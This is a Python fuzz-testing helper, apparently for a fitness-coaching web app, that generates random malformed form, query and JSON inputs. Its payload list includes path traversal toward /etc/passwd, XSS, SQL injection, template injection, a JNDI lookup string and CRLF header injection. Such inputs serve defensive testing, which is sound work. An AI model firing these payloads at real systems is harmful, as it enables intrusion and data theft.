"""What hostile people, broken apps and scanners put where something else is expected."""

from __future__ import annotations

from random import Random
from typing import Any, Final

NASTY: Final = (
    "",
    " ",
    "0",
    "-1",
    "1e999",
    "NaN",
    "null",
    "true",
    "9" * 40,
    "1" * 5000,
    "a" * 3000,
    "\0",
    "a\0b",
    "\r\nSet-Cookie: a=b",
    "\n",
    "\t",
    "\x7f",
    "\x1b[31m",
    "..",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%",
    "%zz",
    "%c0%ae",
    "//",
    "\\\\host\\share",
    "~",
    "*",
    "?",
    "#",
    "&",
    "=",
    ";",
    "'",
    '"',
    "`",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "' OR 1=1 --",
    "1; DROP TABLE users",
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://elsewhere/a}",
    "%s%s%s%n",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "ÿ",
    "é",
    "é",
    "ＡＢＣ",
    "１２３",
    "²",
    "٣",
    "İ",
    "ß",
    "ﬁ",
    "\u202e",
    "\u200b",
    "\ufeff",
    "\U0001f3cb\U0001f3fd\u200d\u2640\ufe0f",
    "𝔘𝔫𝔦",
    "Z̸͓̈a̶l̴g̵o" * 20,
    "2026-02-30",
    "0000-00-00",
    "10000-01-01",
    "9999-12-31T23:59:59+23:59",
    "America/Nowhere",
    "../../UTC",
    "+15550100101",
    "+1555010010100000000000000",
    "coach@example.com",
    "@",
    "a@b@c",
    "00000000-0000-0000-0000-000000000000",
    "https://elsewhere.example/",
    "//elsewhere.example",
    "file:///etc/passwd",
)
FIELDS: Final = (
    "phone_number",
    "code",
    "device_name",
    "name",
    "timezone",
    "email",
    "fitness_goals",
    "age",
    "gender",
    "equipment",
    "available_days",
    "session_minutes",
    "preferred_send_hour",
    "program_type",
    "region",
    "severity",
    "note",
    "sets",
    "exercise_id",
    "reason",
    "username",
    "password",
    "next",
    "csrfmiddlewaretoken",
    "action",
    "_selected_action",
    "do",
    "felt",
    "From",
    "To",
    "Body",
    "MessageSid",
    "SmsSid",
    "MessageStatus",
    "ErrorCode",
    "post",
    "",
)
PARAMETERS: Final = (
    "next",
    "q",
    "o",
    "p",
    "all",
    "e",
    "format",
    "since",
    "cursor",
    "limit",
    "page",
    "from",
    "to",
    "lang",
    "version",
    "_changelist_filters",
    "_popup",
    "_to_field",
    "coach__id__exact",
    "password__startswith",
    "id__in",
    "bodySHA256",
    "script",
)


def value(random: Random, depth: int = 0) -> Any:
    """For JSON: a nasty word, a number that no field can hold, or more of it inside."""
    kind = random.randrange(9 if depth < 3 else 6)
    if kind < 3:
        return random.choice(NASTY)
    if kind < 6:
        return random.choice([None, True, 0, -1, 2**63, 10**400, 1.5, -0.0, 1e308, "+15550100101", "000000"])
    if kind < 8:
        return [value(random, depth + 1) for _ in range(random.randrange(4))]
    return fields(random, depth + 1)


def fields(random: Random, depth: int = 0) -> dict[str, Any]:
    return {random.choice(FIELDS): value(random, depth) for _ in range(random.randrange(7))}


def words(random: Random) -> dict[str, str]:
    """For forms and queries."""
    return {random.choice(FIELDS): random.choice(NASTY) for _ in range(random.randrange(8))}
